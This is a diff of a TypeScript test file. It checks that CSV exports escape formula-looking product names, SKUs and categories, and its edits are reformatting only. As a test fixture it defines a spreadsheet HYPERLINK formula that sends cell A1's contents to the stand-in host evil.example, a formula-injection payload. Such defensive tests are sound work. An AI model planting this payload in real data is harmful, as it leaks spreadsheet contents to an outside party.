@@ -17,7 +17,8 @@ afterAll(async () => {
 
 const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
 
-const rowsOf = (text: string) => parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
+const rowsOf = (text: string) =>
+  parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
 
 describe('CSV exports', () => {
   it('write formula-looking names, SKUs and categories as text', async () => {
@@ -39,8 +40,9 @@ describe('CSV exports', () => {
     expect(cells.filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
 
     const day = new Date().toISOString().slice(0, 10);
-    const rate = (await t.api.get(`/api/v1/analytics/return-rate?from=${day}&to=${day}&groupBy=product&format=csv`))
-      .body as string;
+    const rate = (
+      await t.api.get(`/api/v1/analytics/return-rate?from=${day}&to=${day}&groupBy=product&format=csv`)
+    ).body as string;
     const skuRows = rowsOf(rate);
     expect(skuRows.some((r) => Object.values(r).includes("'=1+2"))).toBe(true);
     const byCategory = (
